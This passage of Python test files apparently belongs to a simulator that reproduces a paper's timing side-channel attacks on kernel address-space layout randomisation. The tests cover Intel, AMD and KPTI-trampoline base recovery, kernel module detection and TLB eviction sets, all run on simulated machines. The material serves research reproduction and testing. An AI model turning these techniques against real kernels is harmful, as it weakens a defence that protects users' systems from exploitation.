    @pytest.mark.parametrize("target", sorted(TARGETS))
    def test_under_chaos(self, cpu, target):
        batched, col, rb, rc = _run_pair(target, cpu, chaos="default")
        assert np.array_equal(rb, rc)
        assert _machine_state(batched) == _machine_state(col)
        assert (batched.core.chaos.schedule_digest()
                == col.core.chaos.schedule_digest())

    def test_hostile_chaos_segments_and_matches(self):
        batched, col, rb, rc = _run_pair("modules", "i5-12400F",
                                         chaos="hostile")
        assert np.array_equal(rb, rc)
        assert _machine_state(batched) == _machine_state(col)
        assert (batched.core.chaos.log_as_dicts()
                == col.core.chaos.log_as_dicts())
        # hostile profiles force mid-sweep re-segmentation
        assert columnar.last_info["windows"] > 1

    def test_raw_matrix_reduce_none(self):
        batched = Machine.linux(seed=9)
        col = Machine.linux(seed=9)
        vas = _base_vas(batched)[:64]
        rb = batched.core.probe_sweep(vas, rounds=5, warm=False, reduce=None,
                                      engine="batched")
        rc = col.core.probe_sweep(vas, rounds=5, warm=False, reduce=None,
                                  engine="columnar")
        assert rb.shape == (64, 5)
        assert np.array_equal(rb, rc)
        assert _machine_state(batched) == _machine_state(col)

    def test_mixed_page_sizes_one_sweep(self):
        """2 MiB kernel slots and 4 KiB module slots in a single sweep."""
        batched = Machine.linux(seed=5)
        col = Machine.linux(seed=5)
        vas = _base_vas(batched)[:128] + _module_vas(batched)[:512]
        rb = batched.core.probe_sweep(vas, rounds=4, engine="batched")
        rc = col.core.probe_sweep(vas, rounds=4, engine="columnar")
        assert np.array_equal(rb, rc)
        assert _machine_state(batched) == _machine_state(col)

    def test_back_to_back_sweeps_second_is_warm(self):
        """A repeated sweep sees its own fills: windows must fall back
        (condition A) and still match the batched engine exactly."""
        batched = Machine.linux(seed=11)
        col = Machine.linux(seed=11)
        base = batched.process.mmap(64)
        assert col.process.mmap(64) == base
        vas = [base + i * 4096 for i in range(64)]
        for machine, engine in ((batched, "batched"), (col, "columnar")):
            machine.core.probe_sweep(vas, rounds=2, engine=engine)
        rb = batched.core.probe_sweep(vas, rounds=2, engine="batched")
        rc = col.core.probe_sweep(vas, rounds=2, engine="columnar")
        assert np.array_equal(rb, rc)
        assert _machine_state(batched) == _machine_state(col)
        assert columnar.last_info["fallback_rows"] > 0

    def test_duplicate_pages_fall_back_bit_exact(self):
        batched = Machine.linux(seed=13)
        col = Machine.linux(seed=13)
        vas = _module_vas(batched)[:128] * 2
        rb = batched.core.probe_sweep(vas, rounds=2, engine="batched")
        rc = col.core.probe_sweep(vas, rounds=2, engine="columnar")
        assert np.array_equal(rb, rc)
        assert _machine_state(batched) == _machine_state(col)

    def test_non_canonical_raises_like_batched(self):
        bad = 0x0000_8000_0000_0000  # first non-canonical address
        vas = [layout.MODULE_START + i * 4096 for i in range(40)] + [bad]
        batched = Machine.linux(seed=3)
        col = Machine.linux(seed=3)
        with pytest.raises(AddressError):
            batched.core.probe_sweep(vas, rounds=2, engine="batched")
        with pytest.raises(AddressError):
            col.core.probe_sweep(vas, rounds=2, engine="columnar")


class TestOutcomeEqualityVsPerOp:
    """The per-op simulator stays the oracle for every engine."""

    @pytest.mark.parametrize("cpu", CPUS)
    def test_double_probe_counters_equal(self, cpu):
        perop = Machine.linux(cpu=cpu, seed=21)
        col = Machine.linux(cpu=cpu, seed=21)
        vas = _base_vas(perop)[:96]
        for va in vas:
            double_probe_load(perop.core, va, rounds=4)
        col.core.probe_sweep(vas, rounds=4, engine="columnar")
        assert perop.core.clock.cycles == col.core.clock.cycles
        assert perop.core.perf.snapshot() == col.core.perf.snapshot()
        assert (perop.core.walker.completed_walks
                == col.core.walker.completed_walks)

    @pytest.mark.parametrize("cpu", CPUS)
    def test_store_scan_outcomes_agree(self, cpu):
        """Mapped/unmapped classification agrees with the per-op arm.

        The store pass separates cleanly on every vendor (a store fault
        assist vs none), so each arm's mode midpoint classifies its own
        timings; the resulting mapped-page verdicts must be identical
        even though the two arms draw different noise values.
        """
        perop = Machine.linux(cpu=cpu, seed=21)
        col = Machine.linux(cpu=cpu, seed=21)
        vas = _user_vas(perop)
        assert _user_vas(col) == vas
        reference = [
            min(perop.core.timed_masked_store(va) for _ in range(2))
            for va in vas
        ]
        timings = col.core.probe_sweep(vas, rounds=2, op="store",
                                       warm=False, reduce="min",
                                       engine="columnar")
        assert perop.core.clock.cycles == col.core.clock.cycles
        assert perop.core.perf.snapshot() == col.core.perf.snapshot()
        cut_ref = (min(reference) + max(reference)) / 2
        cut_col = (min(timings) + max(timings)) / 2
        verdicts_ref = [t <= cut_ref for t in reference]
        verdicts_col = [t <= cut_col for t in timings]
        assert verdicts_ref == verdicts_col
        # the two populations separate cleanly (the faster side varies
        # by CPU model: walk depth vs assist cost dominates)
        assert len(set(verdicts_ref[:256])) == 1
        assert len(set(verdicts_ref[256:])) == 1
        assert verdicts_ref[0] != verdicts_ref[256]

    @pytest.mark.parametrize("cpu", CPUS)
    def test_chaos_schedule_mode_agnostic(self, cpu):
        perop = Machine.linux(cpu=cpu, seed=23, chaos="default")
        col = Machine.linux(cpu=cpu, seed=23, chaos="default")
        vas = _module_vas(perop)[:512]
        for va in vas:
            perop.core.chaos_poll()
            min(perop.core.timed_masked_load(va) for _ in range(2))
        col.core.probe_sweep(vas, rounds=2, warm=False, reduce="min",
                             engine="columnar")
        assert (perop.core.chaos.schedule_digest()
                == col.core.chaos.schedule_digest())
        assert perop.core.clock.cycles == col.core.clock.cycles


class TestTLBOccupancyProperty:
    """Columnar TLB set/way state == per-op TLB state, randomized."""

    @settings(max_examples=12, deadline=None)
    @given(st.data())
    def test_occupancy_matches_per_op(self, data):
        seed = data.draw(st.integers(0, 2**31 - 1))
        perop = Machine.linux(seed=seed)
        col = Machine.linux(seed=seed)
        pool = (
            [layout.MODULE_START + i * 4096 for i in range(512)]
            + _base_vas(perop)[:128]
        )
        base = perop.process.mmap(128)
        assert col.process.mmap(128) == base
        pool += [base + i * 4096 for i in range(128)]
        picks = data.draw(st.lists(
            st.integers(0, len(pool) - 1),
            min_size=32, max_size=200, unique=True,
        ))
        vas = [pool[i] for i in picks]
        # rounds=1, warm=False: engines execute exactly one op per VA,
        # so TLB counters AND buckets must equal the per-op loop's
        for va in vas:
            perop.core.timed_masked_load(va)
        col.core.probe_sweep(vas, rounds=1, warm=False, reduce="min",
                             engine="columnar")
        assert perop.core.tlb.stats() == col.core.tlb.stats()
        assert _tlb_image(perop.core.tlb) == _tlb_image(col.core.tlb)
        assert perop.core.tlb.occupancy() == col.core.tlb.occupancy()
        assert perop.core.clock.cycles == col.core.clock.cycles
        assert perop.core.perf.snapshot() == col.core.perf.snapshot()


class TestSelectionAndDelegation:
    """The auto selection and the whole-sweep delegation guards."""

    def test_auto_picks_columnar_for_full_range(self):
        machine = Machine.linux(seed=1)
        machine.core.probe_sweep(_module_vas(machine)[:64], rounds=2)
        assert columnar.last_info["mode"] == "columnar"

    def test_auto_picks_batched_below_min(self):
        machine = Machine.linux(seed=1)
        columnar.last_info.update(mode=None)
        machine.core.probe_sweep(
            _module_vas(machine)[:columnar.COLUMNAR_MIN_VAS - 1], rounds=2
        )
        assert columnar.last_info["mode"] is None  # columnar never entered

    def test_unknown_engine_rejected(self):
        machine = Machine.linux(seed=1)
        from repro.errors import ConfigError
        with pytest.raises(ConfigError):
            machine.core.probe_sweep([layout.MODULE_START], engine="simd")

    def test_zero_mask_nop_delegates(self):
        machine = Machine.linux(seed=1)
        machine.core.avx.zero_mask_nop = True
        twin = Machine.linux(seed=1)
        twin.core.avx.zero_mask_nop = True
        vas = _module_vas(machine)[:64]
        rb = twin.core.probe_sweep(vas, rounds=2, engine="batched")
        rc = machine.core.probe_sweep(vas, rounds=2, engine="columnar")
        assert columnar.last_info["mode"] == "delegated"
        assert columnar.last_info["reason"] == "zero-mask-nop"
        assert np.array_equal(rb, rc)

    def test_tracing_delegates(self, tmp_path):
        from repro.obs.trace import Tracer
        machine = Machine.linux(seed=1)
        Tracer(str(tmp_path / "t.jsonl")).attach(machine)
        machine.core.probe_sweep(_module_vas(machine)[:64], rounds=2,
                                 engine="columnar")
        assert columnar.last_info["mode"] == "delegated"
        assert columnar.last_info["reason"] == "tracing"


class TestAttackLevelEquivalence:
    """Whole attacks agree across all three execution paths."""

    @pytest.mark.parametrize("cpu", CPUS)
    def test_kaslr_three_way(self, cpu):
        results = {}
        for arm, kwargs in (
            ("per-op", dict(batched=False)),
            ("batched", dict(batched=True, engine="batched")),
            ("columnar", dict(batched=True, engine="columnar")),
        ):
            machine = Machine.linux(cpu=cpu, seed=77)
            results[arm] = (break_kaslr(machine, **kwargs).base,
                            machine.core.clock.cycles)
        assert (results["per-op"][0] == results["batched"][0]
                == results["columnar"][0])
        # batched and columnar are bit-exact, per-op matches on time too
        assert results["batched"] == results["columnar"]
        assert results["per-op"][1] == results["columnar"][1]

    def test_modules_three_way(self):
        recovered = {}
        for arm, kwargs in (
            ("per-op", dict(batched=False)),
            ("batched", dict(batched=True, engine="batched")),
            ("columnar", dict(batched=True, engine="columnar")),
        ):
            machine = Machine.linux(seed=31)
            result = detect_modules(machine, max_slots=2048, **kwargs)
            recovered[arm] = ([(r.start, r.pages) for r in result.regions],
                              machine.core.clock.cycles)
        assert (recovered["per-op"] == recovered["batched"]
                == recovered["columnar"])

    def test_userspace_three_way(self):
        found = {}
        for arm, kwargs in (
            ("per-op", dict(batched=False)),
            ("batched", dict(batched=True, engine="batched")),
            ("columnar", dict(batched=True, engine="columnar")),
        ):
            machine = Machine.linux(seed=19)
            result = find_user_code_base(machine, **kwargs)
            found[arm] = (result.base, machine.core.clock.cycles)
        assert found["per-op"] == found["batched"] == found["columnar"]

    def test_supervised_reanchoring_columnar_vs_batched(self, monkeypatch):
        """The supervisor's chunked, re-anchored scan is engine-agnostic:
        forcing every chunk onto the batched row loop (by raising the
        columnar floor) changes nothing about the verdict or the clock."""
        def run(min_vas):
            monkeypatch.setattr(columnar, "COLUMNAR_MIN_VAS", min_vas)
            machine = Machine.linux(seed=101, chaos="default")
            verdict = supervise(machine, "kaslr", batched=True)
            return (verdict.status, verdict.value, verdict.confidence,
                    machine.core.clock.cycles,
                    machine.core.chaos.schedule_digest())
        columnar_run = run(32)
        batched_run = run(10**9)
        assert columnar_run == batched_run
