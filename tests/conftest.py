"""Shared fixtures: prebuilt machines for the heavier attack tests."""

import pytest

from repro.machine import Machine


@pytest.fixture
def linux_machine():
    """A fresh default Linux machine (Alder Lake, KASLR on, KPTI off)."""
    return Machine.linux(seed=1234)


@pytest.fixture
def icelake_machine():
    return Machine.linux(cpu="i7-1065G7", seed=1234)


@pytest.fixture
def amd_machine():
    return Machine.linux(cpu="ryzen5-5600X", seed=1234)


@pytest.fixture
def kpti_machine():
    return Machine.linux(seed=1234, kpti=True)


@pytest.fixture
def windows_machine():
    return Machine.windows(seed=1234)


@pytest.fixture
def small_module_set():
    """A compact module list for fast module-window scans."""
    from repro.os.linux.modules import MODULE_CATALOG

    names = {"video", "mac_hid", "autofs4", "x_tables", "psmouse",
             "bluetooth", "fat", "vfat", "coretemp", "ahci"}
    return [m for m in MODULE_CATALOG if m.name in names]
