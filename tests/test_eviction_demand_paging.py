"""TLB eviction sets and demand-paging semantics."""

import pytest

from repro.attacks.eviction import TLBEvictionBuffer
from repro.errors import MappingError
from repro.machine import Machine
from repro.mmu.address import PAGE_SIZE


@pytest.fixture
def machine():
    return Machine.linux(seed=321)


class TestEvictionSets:
    def test_build_set_is_congruent(self, machine):
        buffer = TLBEvictionBuffer(machine, pages=2048)
        target = machine.kernel.module_map["video"][0]
        eviction_set = buffer.build_set(target)
        assert len(eviction_set) > 0
        l1 = machine.core.tlb.l1[PAGE_SIZE]
        stlb = machine.core.tlb.stlb
        target_vpn = target // PAGE_SIZE
        for va in eviction_set.pages:
            vpn = va // PAGE_SIZE
            assert (
                vpn % l1.sets == target_vpn % l1.sets
                or vpn % stlb.sets == target_vpn % stlb.sets
            )

    def test_eviction_displaces_target_translation(self, machine):
        core = machine.core
        target = machine.kernel.module_map["video"][0]
        buffer = TLBEvictionBuffer(machine, pages=2048)
        core.masked_load(target)             # cache the translation
        assert core.tlb.holds(target)
        buffer.evict_address(target)
        assert not core.tlb.holds(target)

    def test_eviction_costs_cycles(self, machine):
        buffer = TLBEvictionBuffer(machine, pages=2048)
        target = machine.kernel.module_map["video"][0]
        eviction_set = buffer.build_set(target)
        cycles = buffer.evict(eviction_set)
        assert cycles > 0

    def test_targeted_eviction_cheaper_than_full_flush(self, machine):
        from repro.cpu.core import EVICTION_COST_CYCLES

        buffer = TLBEvictionBuffer(machine, pages=2048)
        target = machine.kernel.module_map["video"][0]
        eviction_set = buffer.build_set(target)
        machine.core.masked_load(target)
        cycles = buffer.evict(eviction_set)
        assert cycles < EVICTION_COST_CYCLES

    def test_unrelated_translations_survive(self, machine):
        core = machine.core
        target = machine.kernel.module_map["video"][0]
        bystander = machine.playground.user_rw
        buffer = TLBEvictionBuffer(machine, pages=2048)
        core.masked_load(target)
        core.masked_load(bystander)
        survived_before = core.tlb.holds(bystander)
        buffer.evict_address(target)
        # the bystander shares no set with the target (different VPN mod);
        # it may coincidentally conflict, so only assert when disjoint
        l1 = core.tlb.l1[PAGE_SIZE]
        stlb = core.tlb.stlb
        t, b = target // PAGE_SIZE, bystander // PAGE_SIZE
        if t % l1.sets != b % l1.sets and t % stlb.sets != b % stlb.sets:
            assert survived_before and core.tlb.holds(bystander)

    def test_requires_process(self):
        machine = Machine.windows(seed=5)
        with pytest.raises(ValueError):
            TLBEvictionBuffer(machine)


class TestDemandPaging:
    def test_lazy_mmap_not_present(self, machine):
        addr = machine.process.mmap(4, "rw-", populate=False)
        assert not machine.process.is_populated(addr)

    def test_touch_faults_in_one_page(self, machine):
        process = machine.process
        addr = process.mmap(4, "rw-", populate=False)
        assert process.touch(addr) is True
        assert process.is_populated(addr)
        assert not process.is_populated(addr + PAGE_SIZE)

    def test_second_touch_is_noop(self, machine):
        process = machine.process
        addr = process.mmap(1, "rw-", populate=False)
        process.touch(addr)
        assert process.touch(addr) is False

    def test_read_fault_leaves_page_clean(self, machine):
        process = machine.process
        addr = process.mmap(1, "rw-", populate=False)
        process.touch(addr, write=False)
        assert not process.space.translate(addr).flags.dirty

    def test_write_fault_installs_dirty(self, machine):
        process = machine.process
        addr = process.mmap(1, "rw-", populate=False)
        process.touch(addr, write=True)
        assert process.space.translate(addr).flags.dirty

    def test_write_fault_on_readonly_segfaults(self, machine):
        process = machine.process
        addr = process.mmap(1, "r--", populate=False)
        with pytest.raises(MappingError):
            process.touch(addr, write=True)

    def test_touch_outside_any_region_segfaults(self, machine):
        with pytest.raises(MappingError):
            machine.process.touch(machine.playground.unmapped)

    def test_populated_mmap_unaffected(self, machine):
        addr = machine.process.mmap(1, "rw-")
        assert machine.process.is_populated(addr)
        assert machine.process.touch(addr) is False

    def test_munmap_of_partially_populated_region(self, machine):
        process = machine.process
        addr = process.mmap(4, "rw-", populate=False)
        process.touch(addr + 2 * PAGE_SIZE)
        process.munmap(addr, 4)
        assert process.region_at(addr) is None
        assert process.space.translate(addr + 2 * PAGE_SIZE) is None

    def test_probe_leaks_victim_touch_state(self, machine):
        """Demand paging is itself observable: the probe distinguishes a
        lazily mapped page the victim has touched from one it has not."""
        core = machine.core
        process = machine.process
        addr = process.mmap(2, "rw-", populate=False)
        process.touch(addr)  # victim touched page 0 only

        core.masked_load(addr)
        core.masked_load(addr + PAGE_SIZE)
        touched = core.masked_load(addr).cycles
        untouched = core.masked_load(addr + PAGE_SIZE).cycles
        assert touched < untouched
