"""End-to-end KASLR breaks: Intel P2, AMD P3, KPTI trampoline, modules."""

import pytest

from repro.attacks.kaslr_break import (
    break_kaslr,
    break_kaslr_amd,
    break_kaslr_intel,
)
from repro.attacks.kpti_break import break_kaslr_kpti
from repro.attacks.module_detect import (
    _runs_from_bitmap,
    detect_modules,
    region_accuracy,
)
from repro.errors import AttackError
from repro.machine import Machine
from repro.os.linux import layout


class TestIntelBreak:
    def test_finds_base(self, linux_machine):
        result = break_kaslr_intel(linux_machine)
        assert result.base == linux_machine.kernel.base
        assert result.method == "intel-p2"

    def test_slot_consistent(self, linux_machine):
        result = break_kaslr_intel(linux_machine)
        assert layout.kernel_base_of_slot(result.slot) == result.base

    def test_mapped_run_covers_image(self, linux_machine):
        result = break_kaslr_intel(linux_machine)
        image_slots = set(range(
            result.slot, result.slot + linux_machine.kernel.image_2m_pages
        ))
        assert image_slots <= set(result.mapped_slots)

    def test_timings_bimodal(self, linux_machine):
        result = break_kaslr_intel(linux_machine)
        mapped = [result.timings[s] for s in result.mapped_slots]
        unmapped = [
            t for s, t in enumerate(result.timings)
            if s not in set(result.mapped_slots)
        ]
        assert max(mapped) < result.threshold
        assert min(unmapped) > result.threshold

    def test_runtimes_positive_and_ordered(self, linux_machine):
        result = break_kaslr_intel(linux_machine)
        assert 0 < result.probing_ms < result.total_ms

    def test_works_across_seeds(self):
        for seed in range(5):
            machine = Machine.linux(seed=seed)
            result = break_kaslr_intel(machine)
            assert result.base == machine.kernel.base

    def test_dispatch_picks_intel(self, linux_machine):
        assert break_kaslr(linux_machine).method == "intel-p2"


class TestAmdBreak:
    def test_finds_base(self, amd_machine):
        result = break_kaslr_amd(amd_machine)
        assert result.base == amd_machine.kernel.base
        assert result.method == "amd-p3"

    def test_rejected_on_intel(self, linux_machine):
        with pytest.raises(AttackError):
            break_kaslr_amd(linux_machine)

    def test_dispatch_picks_amd(self, amd_machine):
        assert break_kaslr(amd_machine).method == "amd-p3"

    def test_votes_at_true_slot_dominant(self, amd_machine):
        result = break_kaslr_amd(amd_machine)
        true_slot = layout.kernel_slot_of(amd_machine.kernel.base)
        assert result.timings[true_slot] == 5  # all five 4 KiB pages voted

    def test_p2_fails_on_amd(self, amd_machine):
        """The reason the paper needs P3 on Zen 3: P2 sees nothing."""
        result = break_kaslr_intel(amd_machine)
        assert result.base is None or result.base != amd_machine.kernel.base


class TestKptiBreak:
    def test_finds_base_through_trampoline(self, kpti_machine):
        result = break_kaslr_kpti(kpti_machine)
        assert result.base == kpti_machine.kernel.base
        assert result.method == "kpti-trampoline"

    def test_only_trampoline_visible(self, kpti_machine):
        result = break_kaslr_kpti(kpti_machine)
        assert len(result.mapped_slots) == 1

    def test_paper_fixed_base_experiment(self):
        """Section IV-D: nokaslr + KPTI -> fast slot at 0xffffffff81c00000."""
        machine = Machine.linux(seed=3, kaslr=False, kpti=True)
        assert machine.kernel.base == 0xFFFF_FFFF_8100_0000
        result = break_kaslr_kpti(machine)
        trampoline = layout.kernel_base_of_slot(result.mapped_slots[0])
        assert trampoline == 0xFFFF_FFFF_81C0_0000
        assert result.base == machine.kernel.base

    def test_aws_offset(self):
        machine = Machine.linux(
            cpu="xeon-e5-2676", seed=4, kernel_version="5.11.0-1020-aws",
            kpti=True,
        )
        assert machine.kernel.trampoline_offset == 0xE0_0000
        result = break_kaslr_kpti(machine)
        assert result.base == machine.kernel.base

    def test_plain_break_fails_under_kpti(self, kpti_machine):
        """Without trampoline knowledge, P2 finds the wrong 'base'."""
        result = break_kaslr_intel(kpti_machine)
        assert result.base != kpti_machine.kernel.base


@pytest.fixture(scope="module")
def module_detection():
    """One full module-window scan shared by the assertions below."""
    machine = Machine.linux(seed=777)
    return machine, detect_modules(machine)


class TestModuleDetection:
    def test_runs_from_bitmap(self):
        flags = [False, True, True, False, True, False]
        runs = _runs_from_bitmap(flags, 0x1000)
        assert runs == [(0x2000, 2), (0x5000, 1)]

    def test_runs_tail_open(self):
        runs = _runs_from_bitmap([True, True], 0x0)
        assert runs == [(0x0, 2)]

    def test_detects_all_modules(self, module_detection):
        machine, result = module_detection
        accuracy = region_accuracy(result, machine.kernel)
        assert accuracy > 0.98

    def test_unique_sizes_identified(self, module_detection):
        machine, result = module_detection
        for name in ("video", "mac_hid", "pinctrl_icelake", "bluetooth",
                     "psmouse"):
            assert result.address_of(name) == machine.kernel.module_map[name][0]

    def test_ambiguous_pair_not_identified(self, module_detection):
        """Figure 5: autofs4 and x_tables share a size."""
        __, result = module_detection
        assert result.address_of("autofs4") is None
        assert result.address_of("x_tables") is None
        ambiguous_names = {
            frozenset(r.candidates) for r in result.ambiguous if r.candidates
        }
        assert frozenset({"autofs4", "x_tables"}) in ambiguous_names

    def test_nineteen_identified(self, module_detection):
        __, result = module_detection
        assert len(result.identified) == 19

    def test_runtimes(self, module_detection):
        __, result = module_detection
        assert 0 < result.probing_ms < result.total_ms
