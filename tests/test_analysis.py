"""Statistics, the repeat-trial harness, and report rendering."""

import pytest

from repro.analysis.experiment import AccuracyExperiment
from repro.analysis.report import format_histogram, format_series, format_table
from repro.analysis.stats import (
    TimingSummary,
    discriminability,
    summarize,
    threshold_quality,
)
from repro.machine import Machine


class TestTimingSummary:
    def test_basic_moments(self):
        summary = summarize([1, 2, 3, 4, 5])
        assert summary.mean == 3
        assert summary.median == 3
        assert summary.minimum == 1 and summary.maximum == 5
        assert summary.n == 5

    def test_empty_rejected(self):
        with pytest.raises(ValueError):
            TimingSummary([])

    def test_percentiles_ordered(self):
        summary = summarize(list(range(100)))
        assert summary.p5 <= summary.median <= summary.p95

    def test_constant_sample(self):
        summary = summarize([7, 7, 7])
        assert summary.std == 0


class TestDiscriminability:
    def test_separated_distributions(self):
        a = [100, 101, 99, 100]
        b = [200, 201, 199, 200]
        assert discriminability(a, b) > 10

    def test_identical_distributions(self):
        a = [1, 2, 3]
        assert discriminability(a, a) == 0

    def test_zero_variance_distinct_means(self):
        assert discriminability([1, 1], [2, 2]) == float("inf")


class TestThresholdQuality:
    def test_perfect_threshold(self):
        fn, fp = threshold_quality(150, [100, 110], [200, 210])
        assert fn == 0 and fp == 0

    def test_bad_threshold(self):
        fn, fp = threshold_quality(50, [100, 110], [200, 210])
        assert fn == 1.0 and fp == 0

    def test_partial(self):
        fn, fp = threshold_quality(105, [100, 110], [104, 210])
        assert fn == 0.5 and fp == 0.5


class TestAccuracyExperiment:
    def test_aggregates_boolean_outcomes(self):
        def attack(machine):
            return machine.kernel.base % 2 == 0, 1.0, 2.0

        experiment = AccuracyExperiment(
            lambda seed: Machine.linux(seed=seed), attack
        ).run(4)
        assert 0 <= experiment.accuracy <= 1
        assert experiment.mean_probing_ms == 1.0
        assert experiment.mean_total_ms == 2.0

    def test_fractional_outcomes(self):
        experiment = AccuracyExperiment(
            lambda seed: None, lambda machine: (0.5, 1.0, 1.0)
        ).run(3)
        assert experiment.accuracy == 0.5

    def test_report_row(self):
        experiment = AccuracyExperiment(
            lambda seed: None, lambda machine: (True, 1.5, 2.5)
        ).run(2)
        label, probing, total, accuracy = experiment.report_row("x")
        assert (label, probing, total, accuracy) == ("x", 1.5, 2.5, 1.0)

    def test_distinct_seeds_used(self):
        seen = []
        AccuracyExperiment(
            lambda seed: seen.append(seed), lambda machine: (True, 0, 0)
        ).run(3, seed0=10)
        assert seen == [10, 11, 12]


class TestReportRendering:
    def test_format_table(self):
        text = format_table(
            ["cpu", "ms"], [["i9", 1.234], ["i5", 0.5]], title="T"
        )
        assert "cpu" in text and "i9" in text and "1.234" in text
        assert text.splitlines()[0] == "T"

    def test_table_alignment_stable(self):
        text = format_table(["a"], [["xxxxxxxx"]])
        header, sep, row = text.splitlines()
        assert len(header) == len(sep) == len(row)

    def test_format_histogram(self):
        text = format_histogram([1, 1, 2, 50], bins=4, title="H")
        assert "H" in text
        assert "#" in text

    def test_histogram_empty(self):
        assert "empty" in format_histogram([])

    def test_format_series(self):
        text = format_series([(0, 1.0), (1, 2.0)], title="S")
        assert "S" in text
        assert "*" in text
