"""Core: measurement wrappers, eviction, privileged kernel touches."""

import pytest

from repro.cpu.core import EVICTION_COST_CYCLES, Core
from repro.cpu.models import get_cpu_model
from repro.errors import ConfigError
from repro.mmu.address import PAGE_SIZE
from repro.mmu.flags import PageFlags, flags_from_prot
from repro.mmu.pagetable import AddressSpace


@pytest.fixture
def core_and_space():
    space = AddressSpace()
    space.map_range(0x10_0000, PAGE_SIZE, flags_from_prot(read=True, write=True))
    core = Core(get_cpu_model("i5-12400F"), seed=1)
    core.set_address_space(space)
    return core, space


class TestAddressSpaceBinding:
    def test_no_space_raises(self):
        core = Core(get_cpu_model("i5-12400F"), seed=0)
        with pytest.raises(ConfigError):
            core.masked_load(0x1000)

    def test_cr3_switch_flushes_tlb(self, core_and_space):
        core, space = core_and_space
        core.masked_load(0x10_0000)
        assert core.tlb.holds(0x10_0000)
        core.set_address_space(space)
        assert not core.tlb.holds(0x10_0000)

    def test_pcid_switch_keeps_tlb(self, core_and_space):
        core, space = core_and_space
        core.masked_load(0x10_0000)
        core.set_address_space(space, flush=False)
        assert core.tlb.holds(0x10_0000)


class TestMeasurement:
    def test_timed_load_includes_overhead(self, core_and_space):
        core, __ = core_and_space
        core.masked_load(0x10_0000)
        measured = core.timed_masked_load(0x10_0000)
        expected = 13 + core.cpu.measurement_overhead
        assert measured >= expected
        assert measured < expected + 100

    def test_clock_advances_during_measurement(self, core_and_space):
        core, __ = core_and_space
        before = core.clock.cycles
        core.timed_masked_load(0x10_0000)
        assert core.clock.cycles > before

    def test_read_tsc_monotonic(self, core_and_space):
        core, __ = core_and_space
        a = core.read_tsc()
        b = core.read_tsc()
        assert b > a


class TestEviction:
    def test_eviction_flushes_everything(self, core_and_space):
        core, __ = core_and_space
        core.masked_load(0x10_0000)
        core.evict_translation_caches()
        assert not core.tlb.holds(0x10_0000)
        result = core.masked_load(0x10_0000)
        assert result.walks == 1

    def test_eviction_costs_cycles(self, core_and_space):
        core, __ = core_and_space
        before = core.clock.cycles
        core.evict_translation_caches()
        assert core.clock.cycles - before == EVICTION_COST_CYCLES

    def test_eviction_makes_walks_cold(self, core_and_space):
        """The paper's 381-cycle scenario: post-eviction walks hit DRAM."""
        core, __ = core_and_space
        core.masked_load(0x10_0000)
        warm = core.masked_load(0x10_0000)
        core.evict_translation_caches()
        cold = core.masked_load(0x10_0000)
        assert cold.cycles > warm.cycles

    def test_invlpg_single_address(self, core_and_space):
        core, space = core_and_space
        space.map_range(0x20_0000, PAGE_SIZE, flags_from_prot(read=True))
        core.masked_load(0x10_0000)
        core.masked_load(0x20_0000)
        core.invlpg(0x10_0000)
        assert not core.tlb.holds(0x10_0000)
        assert core.tlb.holds(0x20_0000)


class TestKernelTouch:
    def test_kernel_touch_fills_tlb(self, core_and_space):
        core, space = core_and_space
        kva = 0xFFFF_FFFF_8000_0000
        space.map_range(kva, PAGE_SIZE, PageFlags.PRESENT)
        core.kernel_touch([kva])
        assert core.tlb.holds(kva)

    def test_kernel_touch_fills_even_on_amd(self):
        """The kernel itself is privileged: its own accesses always cache."""
        space = AddressSpace()
        kva = 0xFFFF_FFFF_8000_0000
        space.map_range(kva, PAGE_SIZE, PageFlags.PRESENT)
        core = Core(get_cpu_model("ryzen5-5600X"), seed=0)
        core.set_address_space(space)
        core.kernel_touch([kva])
        assert core.tlb.holds(kva)

    def test_run_setup_charges_model_cost(self, core_and_space):
        core, __ = core_and_space
        before = core.clock.cycles
        core.run_setup()
        assert core.clock.cycles - before == core.cpu.setup_cycles
