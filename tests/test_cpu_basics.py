"""Clock, noise model, performance counters, CPU catalog."""

import numpy as np
import pytest

from repro.cpu.clock import SimClock
from repro.cpu.models import CPU_CATALOG, get_cpu_model
from repro.cpu.noise import NoiseModel
from repro.cpu.perfcounters import PerfCounters
from repro.errors import ConfigError


class TestSimClock:
    def test_advance(self):
        clock = SimClock(4.0)
        clock.advance(100)
        clock.advance(50)
        assert clock.cycles == 150

    def test_negative_advance_rejected(self):
        with pytest.raises(ValueError):
            SimClock(4.0).advance(-1)

    def test_zero_frequency_rejected(self):
        with pytest.raises(ValueError):
            SimClock(0)

    def test_time_conversion(self):
        clock = SimClock(2.0)  # 2 GHz
        assert clock.cycles_to_seconds(2_000_000_000) == pytest.approx(1.0)
        assert clock.cycles_to_ms(2_000_000) == pytest.approx(1.0)
        assert clock.cycles_to_us(2_000) == pytest.approx(1.0)

    def test_elapsed_since(self):
        clock = SimClock(1.0)
        clock.advance(10)
        mark = clock.cycles
        clock.advance(32)
        assert clock.elapsed_since(mark) == 32


class TestNoiseModel:
    def test_nonnegative(self):
        noise = NoiseModel(np.random.default_rng(0), sigma=3.0)
        assert all(noise.sample() >= 0 for _ in range(500))

    def test_deterministic_given_seed(self):
        a = NoiseModel(np.random.default_rng(7), sigma=2.0)
        b = NoiseModel(np.random.default_rng(7), sigma=2.0)
        assert [a.sample() for _ in range(50)] == [b.sample() for _ in range(50)]

    def test_zero_sigma_zero_spikes_is_silent(self):
        noise = NoiseModel(np.random.default_rng(0), sigma=0.0, spike_prob=0.0)
        assert all(noise.sample() == 0 for _ in range(100))

    def test_spikes_occur_at_configured_rate(self):
        noise = NoiseModel(
            np.random.default_rng(0), sigma=0.0, spike_prob=0.1,
            spike_cycles=1000,
        )
        samples = [noise.sample() for _ in range(2000)]
        spikes = sum(1 for s in samples if s > 400)
        assert 120 < spikes < 280  # ~10%

    def test_sample_many_matches_support(self):
        noise = NoiseModel(np.random.default_rng(3), sigma=2.0)
        batch = noise.sample_many(1000)
        assert batch.min() >= 0
        assert batch.shape == (1000,)

    def test_scaled(self):
        noise = NoiseModel(np.random.default_rng(0), sigma=2.0)
        assert noise.scaled(1.5).sigma == pytest.approx(3.0)


class TestPerfCounters:
    def test_increment_and_read(self):
        perf = PerfCounters()
        perf.increment("ASSISTS.ANY")
        perf.increment("ASSISTS.ANY", 2)
        assert perf.read("ASSISTS.ANY") == 3

    def test_unknown_event_rejected(self):
        with pytest.raises(KeyError):
            PerfCounters().increment("BOGUS.EVENT")

    def test_snapshot_delta(self):
        perf = PerfCounters()
        perf.increment("PAGE_FAULTS")
        snap = perf.snapshot()
        perf.increment("PAGE_FAULTS")
